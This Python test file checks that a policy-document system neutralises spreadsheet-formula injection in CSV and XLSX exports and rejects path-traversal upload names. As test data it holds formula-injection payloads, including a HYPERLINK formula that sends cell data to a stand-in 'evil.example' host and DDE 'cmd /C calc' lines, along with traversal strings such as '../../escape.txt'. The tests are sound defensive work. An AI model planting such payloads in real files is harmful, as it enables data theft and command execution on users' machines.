"""Output safety: policy text that looks like a spreadsheet formula never executes in Excel.

A real document whose lines start with = + - @ is ingested; its passages are exported as CSV and
XLSX through ``queries.export.serialize_result``: every such CSV cell carries a leading apostrophe,
every such XLSX cell is stored as text, verbatim, marked as typed with an apostrophe.

Upload file names: neither ``app.py`` nor ``ui/`` accepts uploads yet, so there is no path to test.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from graph.results import SelectResult
from policykg.corpus import Corpus
from queries.export import serialize_result
from queries.runner import run_query

HOSTILE_LINES = (
    '=HYPERLINK("http://evil.example/steal?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3，全市研发投入增长。",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
DOCUMENT = "\n\n".join(
    [
        "某市科技局2020年工作要点",
        "1",
        "科技金融",
        "到2020年，全市科技型企业达到100家。",
        *HOSTILE_LINES,
    ]
)
FORMULA_START = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> SelectResult:
    root = tmp_path_factory.mktemp("output-safety")
    source = root / "formula-injection-2020.txt"
    source.write_text(DOCUMENT, encoding="utf-8")
    store = root / "store"
    with Corpus.open(str(store), write=True) as corpus:
        report = corpus.ingest([source], with_index=False)
        assert report.added == [str(source)], report
        result = run_query(corpus.store, "SELECT ?text WHERE { ?p a pkg:Passage ; pkg:text ?text }", timeout_s=60)
    assert isinstance(result, SelectResult)
    texts = [str(row[0]) for row in result.rows]
    # The hostile text really is in the graph, verbatim, at the start of passages.
    assert any(t.startswith(FORMULA_START) for t in texts), texts
    return result


def test_csv_cells_are_neutralised(exported: SelectResult) -> None:
    rows = list(csv.reader(io.StringIO(serialize_result(exported, "csv").decode("utf-8"))))
    assert rows[0] == ["text"]
    cells = [row[0] for row in rows[1:]]
    assert len(cells) == len(exported.rows)
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for original in (str(r[0]) for r in exported.rows if str(r[0]).startswith(FORMULA_START)):
        assert "'" + original in cells


def test_xlsx_cells_are_neutralised(exported: SelectResult) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(serialize_result(exported, "xlsx"))).active
    assert sheet is not None
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a cell is stored as a formula"
    assert [c.value for c in cells] == [str(r[0]) for r in exported.rows]  # the text as written
    risky = [c for c in cells if str(c.value).startswith(FORMULA_START)]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_tsv_and_sparql_json_keep_the_text_verbatim(exported: SelectResult) -> None:
    # Machine formats are not spreadsheets: they keep the text as it is.
    body = serialize_result(exported, "json").decode("utf-8")
    assert '=HYPERLINK(\\"http' in body or "=HYPERLINK(" in body


@pytest.mark.parametrize(
    "name", ["../../escape.txt", "/tmp/abs/escape.txt", "a/../../escape.txt", "..\\..\\escape.txt", "..", ".", ""]
)
def test_upload_names_cannot_escape_the_upload_folder(tmp_path: Path, name: str) -> None:
    from policykg.errors import IngestError
    from ui.documents import upload_path

    folder = tmp_path / "uploads"
    folder.mkdir()
    try:
        path = upload_path(folder, name)
    except IngestError as exc:
        assert name in str(exc) or repr(name) in str(exc)
        return
    assert path.parent == folder and path.name == "escape.txt"
